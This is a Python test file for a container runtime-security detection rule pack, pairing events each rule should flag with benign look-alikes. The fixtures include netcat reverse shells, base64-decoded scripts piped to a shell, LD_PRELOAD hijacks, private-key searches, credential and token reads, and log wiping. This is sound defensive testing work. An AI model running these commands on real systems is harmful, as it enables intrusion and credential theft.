"""For each rule of the pack: what makes it fire, and what is alike and must not."""

from typing import Any

from msgspec import Struct
from tests.support.events import RUNTIME, event, process

from hullguard.model.event import (
    Capabilities,
    ContainerDetails,
    ContainerRef,
    Endpoint,
    Event,
    EventKind,
    Mount,
    OpenFile,
    Process,
    Socket,
)

APT = process(pid=150, comm="apt-get", exe="/usr/bin/apt-get", args=("apt-get", "install", "-y", "nginx"))
DPKG = process(pid=160, comm="dpkg", exe="/usr/bin/dpkg", args=("dpkg", "--unpack"))
SYSTEMD = process(comm="systemd", exe="/usr/lib/systemd/systemd", args=("/sbin/init",))
HOST = ContainerRef("host")


class Case(Struct, frozen=True):
    """Events for which a rule holds, and ordinary ones for which it does not."""

    fires: tuple[Event, ...]
    silent: tuple[Event, ...]


def by(comm: str, *args: str, exe: str = "", **changes: Any) -> Process:
    """A process of a container."""
    return process(comm=comm, exe=exe or f"/usr/bin/{comm}", args=(comm, *args), **changes)


def ran(comm: str, *args: str, exe: str = "", parent: Process | None = None, **changes: Any) -> Event:
    """A program that begins."""
    actor = by(comm, *args, exe=exe, **changes)
    return event(lineage=(RUNTIME, process(pid=120), parent or process(pid=150), actor), path=actor.exe)


def started(comm: str, *args: str, **changes: Any) -> Event:
    """A container's first program."""
    actor = by(comm, *args, vpid=1, **changes)
    return event(lineage=(RUNTIME, actor), path=actor.exe)


def done(
    kind: EventKind, call: str, *, actor: Process | None = None, parent: Process | None = None, **changes: Any
) -> Event:
    """Any other call."""
    lineage = (RUNTIME, parent or process(pid=150), actor or process())
    return event(kind, call=call, lineage=lineage, **({"path": None, "result": 0} | changes))


def _with(*parts: dict[str, Any]) -> dict[str, Any]:
    """Later ones win."""
    return {name: value for part in parts for name, value in part.items()}


def read(path: str, file_system: str = "overlay", **changes: Any) -> Event:
    given: dict[str, Any] = {
        "path": path,
        "raw_path": path,
        "reads": True,
        "result": 3,
        "file": OpenFile(file_system=file_system),
    }
    return done(EventKind.FILE_OPEN, **_with({"call": "openat"}, given, changes))


def written(path: str, file_system: str = "overlay", **changes: Any) -> Event:
    return read(
        path, **_with({"file": OpenFile(file_system=file_system, flags=1), "reads": False, "writes": True}, changes)
    )


def created(path: str, **changes: Any) -> Event:
    return written(path, file=OpenFile(file_system="overlay", flags=0o101, created=True), **changes)


def truncated(path: str, **changes: Any) -> Event:
    return written(path, file=OpenFile(file_system="overlay", flags=0o1001, truncated=True), **changes)


def renamed(path: str, target: str, **changes: Any) -> Event:
    return done(EventKind.FILE_RENAME, "rename", path=path, raw_path=path, target=target, **changes)


def unlinked(path: str, **changes: Any) -> Event:
    return done(EventKind.FILE_UNLINK, "unlink", path=path, raw_path=path, **changes)


def mounted(device: str, where: str, kind: str, **changes: Any) -> Event:
    given: dict[str, Any] = {"path": where, "target": device, "arguments": {"fs_type": kind, "flags": 0}}
    return done(EventKind.MOUNT, "mount", **(given | changes))


def connected(address: str, port: int, family: str = "ipv4", protocol: int = 6, **changes: Any) -> Event:
    kind = "stream" if protocol == 6 else "datagram"
    local = Endpoint("172.17.0.2", 40_000)
    if family == "unix":
        socket = Socket(family, "stream", remote=Endpoint(address))
    else:
        socket = Socket(family, kind, protocol, local=local, remote=Endpoint(address, port))
    return done(EventKind.CONNECT, "connect", socket=socket, **({"result": None} | changes))


def asked(name: str, **changes: Any) -> Event:
    socket = Socket("ipv4", "datagram", 17, remote=Endpoint("10.0.0.2", 53))
    return done(EventKind.DNS, "dns", socket=socket, arguments={"name": name, "type": "A"}, **changes)


def arguments(kind: EventKind, call: str, actor: Process | None = None, **given: str | int) -> Event:
    return done(kind, call, actor=actor, arguments=given)


def denied(happened: Event) -> Event:
    return done(happened.kind, happened.call, actor=happened.process, arguments=happened.arguments, result=-1)


CGROUP = "/sys/fs/cgroup/rdma"
ESCAPES: dict[str, Case] = {
    "escape.release-agent": Case(
        (written("/tmp/c/release_agent", "cgroup"),),
        (read(f"{CGROUP}/release_agent", "cgroup"), written("/src/release_agent"), written("/tmp/c/tasks", "cgroup"),
         written("/tmp/c/release_agent", "cgroup", result=-13)),
    ),
    "escape.notify-on-release": Case(
        (written(f"{CGROUP}/x/notify_on_release", "cgroup"),),
        (read(f"{CGROUP}/x/notify_on_release", "cgroup"),
         written("/sys/fs/cgroup/systemd/a/notify_on_release", "cgroup", actor=SYSTEMD)),
    ),
    "escape.core-pattern": Case(
        (written("/proc/sys/kernel/core_pattern", "proc"), written("/host/proc/sys/kernel/core_pattern", "proc")),
        (read("/proc/sys/kernel/core_pattern", "proc"), written("/src/linux/sys/kernel/core_pattern"),
         written("/proc/sys/kernel/hostname", "proc")),
    ),
    "escape.kernel-helper": Case(
        (written("/proc/sys/kernel/modprobe", "proc"), written("/sys/kernel/uevent_helper", "sysfs"),
         written("/mnt/proc/sys/kernel/poweroff_cmd", "proc")),
        (written("/sbin/modprobe"), read("/proc/sys/kernel/modprobe", "proc"), written("/tmp/uevent_helper")),
    ),
    "escape.sysrq": Case(
        (written("/proc/sysrq-trigger", "proc"), written("/proc/sys/kernel/sysrq", "proc")),
        (read("/proc/sys/kernel/sysrq", "proc"), written("/tmp/sysrq-trigger")),
    ),
    "escape.binary-format": Case(
        (written("/proc/sys/fs/binfmt_misc/register", "binfmt_misc"),),
        (read("/proc/sys/fs/binfmt_misc/status", "binfmt_misc"), written("/var/lib/register")),
    ),
    "escape.runtime-overwrite": Case(
        (written("/usr/sbin/runc", raw_path="/proc/self/fd/4"),),
        (read("/usr/sbin/runc"), created("/usr/sbin/runc"), written("/usr/sbin/runc", parent=APT, actor=DPKG)),
    ),
    "escape.leaked-directory": Case(
        (started("sh", cwd="/sys/fs/cgroup"), started("sh", cwd="/proc/self/fd/8")),
        (started("sh", cwd="/"), ran("cat", "memory.max", cwd="/sys/fs/cgroup"), started("sh", cwd="/sys/fs/cgroupx")),
    ),
    "escape.engine-socket": Case(
        (connected("/run/docker.sock", 0, "unix"), connected("/var/run/crio/crio.sock", 0, "unix")),
        (connected("/run/mysqld/mysqld.sock", 0, "unix"), connected("@/containerd-shim/docker.socket", 0, "unix"),
         connected("10.0.0.7", 2375)),
    ),
    "escape.file-handle": Case(
        (read("/etc/shadow", "ext4", call="open_by_handle_at"),),
        (read("/sys/fs/cgroup/a", "cgroup2", call="open_by_handle_at", actor=SYSTEMD), read("/etc/shadow", "ext4"),
         read("/a", "ext4", call="open_by_handle_at", result=-1)),
    ),
    "escape.page-faults": Case(
        (done(EventKind.USERFAULTFD, "userfaultfd", result=-1),),
        (done(EventKind.USERFAULTFD, "userfaultfd", actor=by("qemu", exe="/usr/libexec/qemu-kvm")),),
    ),
    "escape.user-namespace": Case(
        (arguments(EventKind.NAMESPACE, "unshare", flags=0x10020000),
         denied(arguments(EventKind.NAMESPACE, "unshare", flags=0x10000000))),
        (arguments(EventKind.NAMESPACE, "unshare", flags=0x20000),
         arguments(EventKind.NAMESPACE, "unshare", by("bwrap"), flags=0x10000000)),
    ),
    "escape.namespace-entry": Case(
        (arguments(EventKind.NAMESPACE, "setns", flags=0x20000, fd=3),),
        (arguments(EventKind.NAMESPACE, "setns", by("ip", exe="/usr/sbin/ip"), flags=0x40000000, fd=3),
         arguments(EventKind.NAMESPACE, "unshare", flags=0x20000)),
    ),
    "escape.disk-mount": Case(
        (mounted("/dev/sda1", "/mnt", "ext4"),),
        (mounted("tmpfs", "/run", "tmpfs"), mounted("/dev/sda1", "/mnt", "ext4", result=-1),
         mounted("/dev/shm", "/run/shm", "tmpfs", arguments={"fs_type": "tmpfs", "flags": 4096})),
    ),
    "escape.kernel-mount": Case(
        (mounted("none", "/tmp/c", "cgroup"), mounted("none", "/sys/kernel/debug", "debugfs")),
        (mounted("tmpfs", "/run", "tmpfs"), mounted("proc", "/proc", "proc"),
         mounted("cgroup", "/sys/fs/cgroup/systemd", "cgroup", actor=SYSTEMD)),
    ),
    "escape.device-node": Case(
        (done(EventKind.FILE_MAKE, "mknodat", path="/tmp/d", arguments={"mode": 0o600, "device": 2049}),),
        (done(EventKind.FILE_MAKE, "mknod", path="/tmp/fifo", arguments={"mode": 0o600}),
         done(EventKind.FILE_MAKE, "mknod", path="/jail/dev/null", arguments={"mode": 0o666, "device": 259}),
         done(EventKind.FILE_MAKE, "mkdir", path="/tmp/a", arguments={"mode": 0o755})),
    ),
    "escape.raw-device": Case(
        (read("/dev/sda", "devtmpfs"), written("/dev/mem", "devtmpfs"), read("/proc/kcore", "proc")),
        (read("/dev/null", "tmpfs"), read("/dev/urandom", "tmpfs"), written("/dev/shm/a", "tmpfs"),
         read("/proc/kcore", "proc", container=HOST)),
    ),
    "escape.kernel-program": Case(
        (arguments(EventKind.BPF, "bpf", cmd=5, prog_type=1, name="x"), denied(arguments(EventKind.BPF, "bpf", cmd=5))),
        (arguments(EventKind.BPF, "bpf", cmd=0), arguments(EventKind.BPF, "bpf", SYSTEMD, cmd=5)),
    ),
    "escape.file-system-debugger": Case((ran("debugfs", "-R", "ls", "/dev/sda1"),), (ran("ls", "debugfs"),)),
}  # fmt: skip
NGINX = by("nginx", exe="/usr/sbin/nginx")
POSTGRES = by("postgres", "-D", "/data", exe="/usr/lib/postgresql/16/bin/postgres")
EXECUTIONS: dict[str, Case] = {
    "execution.memory-only": Case(
        (ran("x", exe="/memfd:x", exe_memfd=True),),
        (ran("ls"), ran("runc:[2:INIT]", "init", exe="/memfd:runc", exe_memfd=True)),
    ),
    "execution.shared-memory": Case(
        (ran("a", exe="/dev/shm/a"), ran("sh", "/dev/shm/x.sh"), ran("python3", "./x.py", cwd="/dev/shm")),
        (ran("sh", "/opt/x.sh"), ran("ls", "/dev/shm/"), ran("python3", "./x.py", cwd="/srv")),
    ),
    "execution.web-server-shell": Case(
        (ran("sh", "-c", "id", parent=NGINX), ran("sh", "-c", "id; /usr/sbin/sendmail -t", parent=by("php-fpm8.2"))),
        (ran("sh", "-c", "/usr/sbin/sendmail -t -i -f a@b.example", parent=by("php-fpm8.2")),
         ran("sh", "-c", "exec /usr/bin/rotatelogs /var/log/access.%Y 86400", parent=by("apache2")),
         ran("nginx", "-g", "daemon off;", parent=by("docker-entrypoi")), ran("sh", "-c", "nginx -t"),
         ran("nginx", "-s", "reload", parent=NGINX)),
    ),
    "execution.database-shell": Case(
        (ran("sh", "-c", "id > /tmp/x", parent=POSTGRES), ran("bash", "-i", parent=by("redis-server")),
         ran("sh", "-c", "cp /a /b; id", parent=POSTGRES)),
        (ran("sh", "-c", "locale -a", parent=POSTGRES),
         ran("sh", "-c", "test ! -f /archive/01 && cp pg_wal/01 /archive/01", parent=POSTGRES),
         ran("sh", "-c", "wal-g wal-push pg_wal/01", parent=POSTGRES), ran("sh", "-c", "pg_isready -U postgres")),
    ),
    "execution.netcat-command": Case(
        (ran("nc", "10.0.0.9", "4444", "-e", "/bin/sh"), ran("busybox", "nc", "-e", "sh", "10.0.0.9", "1"),
         ran("ncat", "--sh-exec", "id", "-l", "1"), ran("nc", "-e/bin/sh", "10.0.0.9", "1")),
        (ran("nc", "-z", "db", "5432"), ran("echo", "-e", "nc"), ran("busybox", "echo", "-e", "x")),
    ),
    "execution.decoded-script": Case(
        (ran("bash", "-c", "echo aWQK | base64 -d | bash"), ran("sh", "-c", "base64 --decode /tmp/a | /bin/sh -s")),
        (ran("sh", "-c", "echo aWQK | base64 -d > /etc/app/key"), ran("sh", "-c", "base64 -d a; ls | sha256sum"),
         ran("base64", "-d")),
    ),
    "execution.preloaded-library": Case(
        (ran("ls", env=("LD_PRELOAD=/tmp/x.so",)), ran("ls", env=("LD_AUDIT=/dev/shm/x.so",))),
        (ran("redis-server", env=("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",)), ran("ls", env=("A=/tmp/x",)), ran("ls")),
    ),
    "execution.hidden-program": Case(
        (ran(".x", exe="/srv/.x"), ran("kworker", exe="/tmp/.cache/kworker"), ran("a", exe="/var/tmp/x/.y/z/a")),
        (ran("python", exe="/root/.venv/bin/python"), ran("cargo", exe="/home/u/.cargo/bin/cargo"),
         ran("a.out", exe="/tmp/a.out"), ran("go", exe="/tmp/go-build1/b001/exe/main")),
    ),
}  # fmt: skip
TOKEN = "/run/secrets/kubernetes.io/serviceaccount/..2024_05_06/token"
CREDENTIALS: dict[str, Case] = {
    "credential.path-traversal": Case(
        (read("/etc/passwd", raw_path="/srv/www/../../etc/passwd"),),
        (read("/etc/passwd"), read("/etc/nginx/mime.types", raw_path="../../etc/nginx/mime.types"),
         read("/etc/passwd", raw_path="../passwd")),
    ),
    "credential.cloud-key": Case(
        (read("/home/u/.aws/credentials", actor=by("cat")), read("/home/u/.kube/config", actor=by("curl"))),
        (read("/home/u/.aws/credentials", actor=by("aws", exe="/usr/bin/python3")),
         read("/root/.aws/credentials", actor=by("cat")), read("/home/u/.aws/config", actor=by("cat")),
         read("/home/u/.kube/config", actor=by("kubectl"))),
    ),
    "credential.ssh-key": Case(
        (read("/home/u/.ssh/id_ed25519", actor=by("cat")),),
        (read("/home/u/.ssh/id_ed25519", actor=by("ssh")), read("/home/u/.ssh/known_hosts", actor=by("cat")),
         read("/home/u/.ssh/id_ed25519.pub", actor=by("cat"))),
    ),
    "credential.ssh-host-key": Case(
        (read("/etc/ssh/ssh_host_rsa_key", actor=by("tar")),),
        (read("/etc/ssh/ssh_host_rsa_key", actor=by("sshd", exe="/usr/sbin/sshd")), read("/etc/ssh/ssh_host_rsa_key.pub"),
         read("/etc/ssh/sshd_config"), read("/etc/ssh/ssh_host_rsa_key", parent=DPKG)),
    ),
    "credential.search": Case(
        (ran("grep", "-r", "BEGIN RSA PRIVATE KEY", "/"), ran("find", "/", "-name", "id_rsa*")),
        (ran("grep", "-c", "BEGIN CERTIFICATE", "ca.pem"), ran("find", "/var/lib", "-name", "*.list"),
         ran("openssl", "rsa", "-in", "id_rsa"), ran("grep", "nginx")),
    ),
    "credential.service-account": Case(
        (read(TOKEN, actor=by("cat")), read("/var/run/secrets/eks.amazonaws.com/serviceaccount/token", actor=by("curl"))),
        (read(TOKEN, actor=by("java")), read("/run/secrets/kubernetes.io/serviceaccount/ca.crt", actor=by("cat")),
         read("/srv/token", actor=by("cat"))),
    ),
    "credential.cluster-key": Case(
        (read("/etc/kubernetes/pki/ca.key"), renamed("/etc/kubernetes/pki/ca.key", "/tmp/x")),
        (read("/etc/kubernetes/pki/ca.crt"),
         read("/etc/kubernetes/pki/ca.key", actor=by("kube-apiserver", exe="/usr/local/bin/kube-apiserver"))),
    ),
    "credential.environment": Case(
        (read("/proc/1/environ", "proc"),),
        (read("/proc/55/environ", "proc", raw_path="/proc/self/environ"), read("/proc/1/stat", "proc"),
         read("/proc/1/environ", "proc", actor=SYSTEMD),
         read("/proc/9/environ", "proc", actor=by("ps"))),
    ),
    "credential.sensitive-link": Case(
        (done(EventKind.FILE_SYMLINK, "symlink", path="/tmp/a", raw_path="/tmp/a", target="/etc/shadow"),
         done(EventKind.FILE_SYMLINK, "symlinkat", path="/tmp/a", raw_path="a", target="../etc/shadow")),
        (done(EventKind.FILE_SYMLINK, "symlink", path="/etc/localtime", target="/usr/share/zoneinfo/UTC"),
         done(EventKind.FILE_SYMLINK, "symlink", path="/srv/a", target="etc/shadow")),
    ),
    "credential.sensitive-hard-link": Case(
        (done(EventKind.FILE_LINK, "link", path="/tmp/a", target="/etc/shadow"),),
        (done(EventKind.FILE_LINK, "link", path="/etc/shadow-", target="/etc/shadow"),
         done(EventKind.FILE_LINK, "linkat", path="/etc/passwd.lock", target="/etc/passwd.17")),
    ),
    "credential.metadata-service": Case(
        (connected("169.254.169.254", 80, actor=by("curl")), connected("fd00:ec2::254", 80, "ipv6", actor=by("wget"))),
        (connected("169.254.169.254", 80, actor=by("java")), connected("169.254.20.10", 53, actor=by("curl"), protocol=17),
         connected("10.0.0.1", 80, actor=by("curl"))),
    ),
}  # fmt: skip
PERSISTENCE: dict[str, Case] = {
    "persistence.cron": Case(
        (created("/etc/cron.d/x"), renamed("/var/spool/cron/crontabs/tmp.1", "/var/spool/cron/crontabs/root")),
        (read("/etc/crontab"), created("/etc/cron.d/x.dpkg-new", actor=DPKG), written("/var/run/crond.pid"),
         created("/etc/cron.daily/apt", parent=APT)),
    ),
    "persistence.ssh-key": Case(
        (written("/root/.ssh/authorized_keys"), renamed("/home/u/.ssh/x", "/home/u/.ssh/authorized_keys")),
        (read("/root/.ssh/authorized_keys"), written("/root/.ssh/known_hosts")),
    ),
    "persistence.shell-profile": Case(
        (written("/root/.bashrc"), created("/etc/profile.d/x.sh"), renamed("/tmp/x", "/home/u/.profile")),
        (read("/root/.bashrc"), created("/home/u/.bashrc", actor=by("useradd")), created("/etc/profile.d/x.sh", parent=DPKG)),
    ),
    "persistence.preload-file": Case(
        (created("/etc/ld.so.preload"), renamed("/tmp/x", "/etc/ld.so.preload"),
         done(EventKind.FILE_SYMLINK, "symlink", path="/etc/ld.so.preload", target="/tmp/x"),
         done(EventKind.FILE_LINK, "link", path="/etc/ld.so.preload", target="/tmp/x")),
        (read("/etc/ld.so.preload"), created("/etc/ld.so.cache~")),
    ),
    "persistence.systemd-unit": Case(
        (created("/etc/systemd/system/x.service"),),
        (read("/etc/systemd/system/x.service"), created("/usr/lib/systemd/system/nginx.service", parent=DPKG)),
    ),
    "persistence.init-script": Case(
        (created("/etc/init.d/x"), renamed("/tmp/a", "/etc/rc.local")),
        (read("/etc/init.d/nginx"), created("/etc/init.d/nginx.dpkg-new", actor=DPKG), written("/etc/initramfs")),
    ),
    "persistence.loader": Case(
        (written("/usr/lib64/ld-linux-x86-64.so.2"), renamed("/tmp/a", "/usr/lib/x86_64-linux-gnu/libc.so.6")),
        (read("/usr/lib/x86_64-linux-gnu/libc.so.6"), created("/usr/lib/libc.so.6", actor=DPKG), created("/srv/libcrypt.so.1"), created("/build/root/usr/lib/libc.so.6")),
    ),
    "persistence.system-program": Case(
        (created("/usr/bin/ls"), renamed("/tmp/a", "/usr/sbin/sshd")),
        (read("/usr/bin/ls"), created("/usr/bin/x.dpkg-new", actor=DPKG), created("/usr/local/bin/app"),
         renamed("/usr/bin/awk.dpkg-tmp", "/usr/bin/awk", parent=DPKG), created("/srv/usr/bin/ls")),
    ),
    "persistence.login-module": Case(
        (written("/etc/pam.d/sshd"), renamed("/tmp/a", "/etc/pam.d/common-auth")),
        (read("/etc/pam.d/sshd"), created("/etc/pam.d/cron", parent=DPKG)),
    ),
}  # fmt: skip


def duplicated(family: str, remote: Endpoint | None, **changes: Any) -> Event:
    socket = Socket(family, "stream", 6, local=Endpoint("172.17.0.2", 40_000), remote=remote)
    return done(EventKind.DUP, "dup2", socket=socket, arguments={"old_fd": 3, "new_fd": 0}, **changes)


def opened_socket(family: str, kind: str, **changes: Any) -> Event:
    return done(EventKind.SOCKET, "socket", socket=Socket(family, kind), **({"result": 3} | changes))


NETWORK: dict[str, Case] = {
    "network.shell-over-socket": Case(
        (duplicated("ipv4", Endpoint("203.0.113.9", 4444)), duplicated("ipv6", Endpoint("2001:db8::1", 443), actor=by("python3"))),
        (duplicated("ipv4", None, actor=by("php-fpm8.2")), duplicated("unix", Endpoint("/run/php.sock")),
         duplicated("ipv4", Endpoint("10.0.0.3", 9), actor=by("httpd", exe="/bin/busybox")),
            duplicated("ipv4", Endpoint("10.0.0.3", 9), actor=by("xinetd", exe="/usr/sbin/xinetd"))),
    ),
    "network.packet-socket": Case(
        (opened_socket("packet", "raw"),),
        (opened_socket("ipv4", "stream"), opened_socket("ipv4", "raw", actor=by("ping")), opened_socket("netlink", "raw"),
         opened_socket("packet", "raw", actor=by("udhcpc", exe="/bin/busybox"))),
    ),
    "network.odd-ssh-port": Case(
        (ran("ssh", "-N", "-p", "443", "a@b.example"), ran("ssh", "-oPort=8080", "b.example"), ran("scp", "-P443", "a", "b:c")),
        (ran("ssh", "a@b.example"), ran("ssh", "-p", "22", "b.example"), ran("ssh", "-p", "4430", "b.example"),
         ran("curl", "-p", "443")),
    ),
    "mining.pool-lookup": Case(
        (asked("pool.supportxmr.com"), asked("eu.xmr.nanopool.org")),
        (asked("deb.debian.example"), asked("nanopool.org.example")),
    ),
    "mining.stratum": Case(
        (ran("kworker", "-o", "stratum+tcp://203.0.113.9:3333"), ran("a", "--donate-level=1")),
        (ran("curl", "http://203.0.113.9:3333"), ran("nginx")),
    ),
    "mining.processor-register": Case(
        (written("/dev/cpu/0/msr", "devtmpfs"),),
        (read("/dev/cpu/0/msr", "devtmpfs"), written("/srv/msr")),
    ),
    "mining.huge-pages": Case(
        (written("/proc/sys/vm/nr_hugepages", "proc"), written("/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages", "sysfs")),
        (read("/proc/sys/vm/nr_hugepages", "proc"), written("/srv/nr_hugepages"), written("/proc/sys/vm/max_map_count", "proc")),
    ),
}  # fmt: skip
EVASION: dict[str, Case] = {
    "evasion.log-truncated": Case(
        (truncated("/var/log/auth.log"), truncated("/var/log/nginx/access.log")),
        (written("/var/log/nginx/access.log"), truncated("/var/log/app/today.txt"),
         written("/var/log/auth.log", file=OpenFile(flags=0o1101, created=True)), truncated("/srv/syslog")),
    ),
    "evasion.log-removed": Case(
        (unlinked("/var/log/auth.log"),),
        (unlinked("/var/log/auth.log.1"), unlinked("/var/log/dpkg.log"), unlinked("/var/log/auth.log", result=-13),
         unlinked("/var/log/syslog", parent=DPKG)),
    ),
    "evasion.history-removed": Case(
        (unlinked("/root/.bash_history"), renamed("/root/.bash_history", "/tmp/a", actor=by("mv")),
         done(EventKind.FILE_SYMLINK, "symlink", path="/root/.bash_history", target="/dev/null")),
        (written("/root/.bash_history", actor=by("bash")), renamed("/root/.bash_history", "/root/.bash_history.1", actor=by("bash")),
         renamed("/root/.bash_history-1.tmp", "/root/.bash_history", actor=by("bash")), unlinked("/root/.lesshst")),
    ),
    "evasion.bulk-removal": Case((ran("shred", "-u", "/data/x"), ran("mkfs.ext4", "/dev/sdb")), (ran("rm", "-rf", "/tmp/x"), ran("ls", "shred"))),
    "evasion.file-among-devices": Case(
        (created("/dev/.x"),),
        (created("/dev/shm/PostgreSQL.1"), written("/dev/null", "tmpfs"), created("/dev/mqueue/q"), created("/srv/dev/x")),
    ),
    "evasion.tracing-itself": Case(
        (arguments(EventKind.PTRACE, "ptrace", request=0),),
        (done(EventKind.PTRACE, "ptrace", arguments={"request": 0}, parent=by("gdb")),
         arguments(EventKind.PTRACE, "ptrace", by("strace"), request=0), arguments(EventKind.PTRACE, "ptrace", request=16)),
    ),
    "evasion.io-ring": Case(
        (arguments(EventKind.IO_URING, "io_uring_setup", entries=8, flags=0),),
        (arguments(EventKind.IO_URING, "io_uring_setup", by("mariadbd"), entries=8),),
    ),
    "evasion.hardening-off": Case(
        (written("/proc/sys/kernel/randomize_va_space", "proc"), written("/host/proc/sys/kernel/yama/ptrace_scope", "proc")),
        (read("/proc/sys/kernel/randomize_va_space", "proc"), written("/proc/sys/net/ipv4/ip_forward", "proc"), written("/srv/kptr_restrict")),
    ),
    "injection.trace": Case(
        (arguments(EventKind.PTRACE, "ptrace", request=16, pid=9), denied(arguments(EventKind.PTRACE, "ptrace", request=0x4206))),
        (arguments(EventKind.PTRACE, "ptrace", request=0), arguments(EventKind.PTRACE, "ptrace", by("crashpad_handle"), request=16)),
    ),
    "injection.memory-write": Case(
        (arguments(EventKind.PROCESS_MEMORY, "process_vm_writev", pid=9),),
        (arguments(EventKind.PROCESS_MEMORY, "process_vm_writev", pid=200), arguments(EventKind.PROCESS_MEMORY, "process_vm_readv", pid=9)),
    ),
    "injection.memory-read": Case(
        (arguments(EventKind.PROCESS_MEMORY, "process_vm_readv", pid=9), read("/proc/1/mem", "proc")),
        (read("/proc/9/mem", "proc", raw_path="/proc/self/mem"), read("/proc/1/maps", "proc"), read("/srv/mem"),
         arguments(EventKind.PROCESS_MEMORY, "process_vm_readv", pid=200)),
    ),
    "injection.memory-file": Case(
        (written("/proc/1/mem", "proc"), written("/proc/9/mem", "proc", raw_path="/proc/self/mem")),
        (read("/proc/1/mem", "proc"), written("/srv/mem"), written("/proc/9/mem", "proc", actor=by("julia"))),
    ),
}  # fmt: skip
ADMIN, TRACE = 1 << 21, 1 << 19
USUAL = Capabilities(effective=0xA80425FB)
ALL = Capabilities(effective=0x1FFFFFFFFFF)


def begun(capabilities: Capabilities = USUAL, **details: Any) -> Event:
    """A container's start."""
    first = started("sh", capabilities=capabilities)
    return event(EventKind.CONTAINER_START, lineage=first.lineage, container_details=ContainerDetails(**details))


def mode_changed(path: str, mode: int, **changes: Any) -> Event:
    return done(
        EventKind.FILE_MODE,
        "fchmodat",
        path=path,
        raw_path=path,
        file=OpenFile(mode=mode),
        arguments={"mode": mode},
        **changes,
    )


USER: dict[str, Any] = {"uid": 1000, "euid": 0}
PRIVILEGE: dict[str, Case] = {
    "privilege.sudo-rule": Case(
        (written("/etc/sudoers"), renamed("/tmp/a", "/etc/sudoers.d/b")),
        (read("/etc/sudoers"), created("/etc/sudoers.d/README.dpkg-new", actor=DPKG),
         renamed("/etc/sudoers.tmp", "/etc/sudoers", actor=by("visudo", exe="/usr/sbin/visudo"))),
    ),
    "privilege.setuid-bit": Case(
        (mode_changed("/tmp/x", 0o4755), mode_changed("/usr/bin/bash", 0o4755)),
        (mode_changed("/srv/a", 0o755), mode_changed("/var/mail", 0o2775), mode_changed("/usr/bin/su.dpkg-new", 0o4755, actor=DPKG),
         mode_changed("/tmp/sh", 0o4755, result=-1)),
    ),
    "privilege.setuid-program": Case(
        (ran("h", exe="/tmp/h", **USER),),
        (ran("su", **USER), ran("ls", uid=1000, euid=1000), ran("h", exe="/tmp/h", uid=0, euid=0),
         ran("ssh-keysign", exe="/usr/lib/openssh/ssh-keysign", **USER)),
    ),
    "privilege.loader-tunables": Case(
        (ran("su", env=("GLIBC_TUNABLES=glibc.malloc.mxfast=glibc",), **USER),),
        (ran("java", env=("GLIBC_TUNABLES=glibc.malloc.arena_max=1",), uid=1000, euid=1000), ran("su", **USER)),
    ),
    "privilege.pkexec": Case((ran("pkexec", uid=1000),), (ran("pkexec", "id"), ran("sudo"))),
    "privilege.sudoedit": Case(
        (ran("sudoedit", "-s", "aaaa\\"),),
        (ran("sudoedit", "/etc/hosts"), ran("sudoedit", "-s", "x"), ran("sudo", "-s", "a\\")),
    ),
    "privilege.dirty-pipe": Case(
        (arguments(EventKind.SPLICE, "splice", fd_in=3, fd_out=5, size=1, merge="prepared"),
         arguments(EventKind.SPLICE, "sendfile", fd_in=3, fd_out=5, size=1, merge="open")),
        (arguments(EventKind.SPLICE, "splice", fd_in=3, fd_out=5, size=1, merge=""),),
    ),
    "container.privileged-start": Case(
        (begun(privileged=True), begun(ALL), started("sh", capabilities=ALL)),
        (begun(privileged=False), begun(), ran("sh", capabilities=ALL), begun(Capabilities(effective=ADMIN))),
    ),
    "container.capable-start": Case(
        (begun(Capabilities(effective=USUAL.effective | TRACE)), begun(Capabilities(effective=ADMIN), privileged=False)),
        (begun(), begun(ALL), begun(ALL, privileged=True), ran("sh", capabilities=Capabilities(effective=TRACE))),
    ),
    "container.host-processes": Case((begun(host_pid=True),), (begun(host_pid=False), begun(), started("sh"))),
    "container.host-network": Case((begun(host_network=True),), (begun(host_network=False), begun())),
    "container.host-files": Case(
        (begun(mounts=(Mount("/", "/host"),)), begun(mounts=(Mount("/var/run/docker.sock", "/docker.sock"),))),
        (begun(mounts=(Mount("/var/lib/docker/volumes/a/_data", "/data"), Mount("/etc/localtime", "/etc/localtime"),
                       Mount("proc", "/proc"), Mount("/srv/app", "/root"))), begun(mounts=())),
    ),
    "kernel.module": Case(
        (arguments(EventKind.MODULE, "init_module", name="x"), denied(arguments(EventKind.MODULE, "finit_module", name="x"))),
        (ran("lsmod"), arguments(EventKind.BPF, "bpf", cmd=5), done(EventKind.MODULE, "init_module", container=HOST)),
    ),
    "discovery.kubernetes-lookup": Case(
        (asked("kubernetes.default.svc.cluster.local", actor=by("curl")),),
        (asked("kubernetes.default.svc.cluster.local", actor=by("java")), asked("db.default.svc.cluster.local", actor=by("curl"))),
    ),
    "discovery.scheduler": Case(
        (read("/proc/sched_debug", "proc"), read("/sys/kernel/debug/sched/debug", "debugfs")),
        (read("/proc/schedstat", "proc"), written("/proc/sched_debug", "proc")),
    ),
    "discovery.address-randomisation": Case(
        (read("/proc/sys/kernel/randomize_va_space", "proc"),),
        (written("/proc/sys/kernel/randomize_va_space", "proc"), read("/srv/randomize_va_space")),
    ),
}  # fmt: skip
CASES = ESCAPES | EXECUTIONS | CREDENTIALS | PERSISTENCE | NETWORK | EVASION | PRIVILEGE
